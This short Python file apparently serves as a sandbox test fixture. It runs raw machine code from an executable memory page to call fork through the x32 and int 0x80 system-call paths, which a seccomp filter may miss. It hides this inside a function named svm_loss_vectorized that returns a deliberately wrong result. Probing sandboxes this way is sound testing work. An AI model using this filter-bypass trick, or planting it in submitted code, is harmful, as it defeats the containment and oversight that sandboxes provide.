"""Forks by the doors that a filter for one set of system calls forgets: int 0x80 and x32."""

import ctypes
import mmap
import os
import platform

import kit


def run(code):
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    place = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_long)(place)()


@kit.once
def attack():
    if platform.machine() != "x86_64":
        return
    # mov eax, 0x40000039 (fork of x32); syscall; ret
    pid = run(b"\xb8\x39\x00\x00\x40\x0f\x05\xc3")
    if pid == 0:
        os._exit(0)
    if pid > 0:
        kit.harm("forked by x32")
    # push rbx; mov eax, 2 (fork of i386); int 0x80; pop rbx; cdqe; ret
    pid = run(b"\x53\xb8\x02\x00\x00\x00\xcd\x80\x5b\x48\x98\xc3")
    if pid == 0:
        os._exit(0)
    if pid > 0:
        kit.harm("forked by int 0x80")


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
